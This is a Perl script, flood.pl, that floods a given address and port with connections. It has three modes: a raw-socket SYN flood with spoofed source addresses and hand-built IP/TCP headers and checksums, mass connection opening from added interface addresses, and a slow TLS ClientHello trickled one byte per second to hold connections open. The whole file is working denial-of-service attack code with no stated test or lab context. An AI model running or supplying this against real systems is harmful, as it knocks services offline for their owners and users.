# Opens very many connections: flood.pl KIND ADDRESS PORT CONNECTIONS SECONDS
use strict;
use warnings;
use Socket;
use Fcntl;
my ($kind, $address, $port, $count, $seconds) = @ARGV;
my $end = time + $seconds;
my $to = sockaddr_in($port, inet_aton($address));
my @from = map { "203.0.113.$_" } 100 .. 199;

if ($kind eq "half-open") {
  # SYN alone, from addresses that never answer.
  socket(my $raw, AF_INET, SOCK_RAW, 255) or die "raw: $!\n";
  my $sent = 0;
  my $sum = sub { my $s = 0; $s += $_ for unpack("n*", shift); $s = ($s >> 16) + ($s & 0xffff) while $s >> 16; ~$s & 0xffff };
  while (time < $end) {
    for (1 .. 100) {
      my $source = inet_aton($from[rand @from]);
      my $target = inet_aton($address);
      my @tcp = (1024 + int rand 60000, $port, int rand 2**32, 0, 0x5002, 64240);
      my $head = pack("n n N N n n n n", @tcp, 0, 0);
      my $check = $sum->($source . $target . pack("n n", 6, length $head) . $head);
      my $packet = pack("C C n n n C C n a4 a4", 0x45, 0, 40, int rand 65536, 0, 64, 6, 0, $source, $target) . pack("n n N N n n n n", @tcp, $check, 0);
      $sent++ if send($raw, $packet, 0, $to);
    }
    select undef, undef, undef, 0.1;
  }
  print "$sent half-open connections begun\n";
  exit;
}

if ($kind eq "many") { system("ip", "addr", "add", "$_/24", "dev", "eth0") == 0 or die "ip addr add $_\n" for @from }
my (@open, $opened);
my $trickle = 0;
for my $n (1 .. $count) {
  last if time >= $end;
  socket(my $one, AF_INET, SOCK_STREAM, 0) or last;
  fcntl($one, F_SETFL, O_NONBLOCK);
  bind($one, sockaddr_in(0, inet_aton($from[$n % @from]))) if $kind eq "many";
  connect($one, $to);
  push @open, $one;
  select undef, undef, undef, 0.05 if $n % 100 == 0;
}
# A ClientHello of 512 bytes, which comes one byte a second.
my @hello = unpack("(a1)*", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" . "\0" x 501);
local $SIG{PIPE} = "IGNORE";
while (time < $end) {
  if ($kind eq "slow-tls") { my $byte = $hello[$trickle++]; send($_, $byte, 0) for @open }
  sleep 1;
}
$opened = grep { getpeername $_ } @open;
print scalar(@open) . " connections tried, $opened open at the end\n";
